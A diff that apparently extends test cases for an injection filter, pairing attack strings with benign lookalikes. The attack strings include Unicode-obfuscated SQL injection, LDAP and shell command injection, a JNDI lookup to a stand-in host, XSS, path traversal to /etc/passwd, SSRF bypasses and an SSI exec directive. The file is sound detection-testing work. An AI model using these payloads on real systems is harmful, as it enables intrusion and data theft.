@@ -56,6 +56,31 @@ const habits: readonly (readonly [string, readonly Case[], readonly Case[]])[] =
     ['@grab a coffee', 'config["alert"] = true', "rows['alert']", '[7].findIndex(isOpen)'],
   ],
   [
+    'letters of mathematics, and signs that are written in numbers',
+    [
+      "' \u{1d40e}\u{1d411} '\u{1d7cf}'='\u{1d7cf}",
+      "' \u{1d414}\u{1d40d}\u{1d408}\u{1d40e}\u{1d40d} \u{1d412}\u{1d404}\u{1d40b}\u{1d404}\u{1d402}\u{1d413} 3,4--",
+      '\\28uid=*\\29\\29(|(uid=*',
+      "; $(printf '\\x63\\x61\\x74') /etc/hosts",
+      "${${date:'j'}ndi:ldap://x.example/a}",
+      '& set q=whoami&& %q%',
+    ],
+    ['\u{1d465}+\u{1d466}=1', '\u{1d453}(\u{1d465})=\u{1d465}²', 'C:\\28\\29', 'set x=1 && set y=2', '$(printf "%s" a)'],
+  ],
+  [
+    'tags cut by comments, names in brackets, paths behind semicolons and at signs',
+    [
+      '<scr<!--k-->ipt>alert(4)</scr<!--k-->ipt>',
+      '3; SELECT [pin] FROM [sys].[databases]--',
+      '/public/..;jsessionid=k/etc/hosts',
+      '/admin;/etc/passwd',
+      'http://allowed.example.com/@127.0.0.1/',
+      '//evil.example\\@good.example/a',
+      '<!--#  exec  cmd="ls"  -->',
+    ],
+    ['见 <!-- 注释 --> 处', 'rows[index].name, from [a].b', '/@user/article', 'https://x.example/@zhang/3', '<!-- # 标题 -->'],
+  ],
+  [
     'errors and waits in arguments',
     [
       '3) ORDER BY 1 desc,extractvalue(rand(),concat(0x7c,md5(48213))) desc -- a',
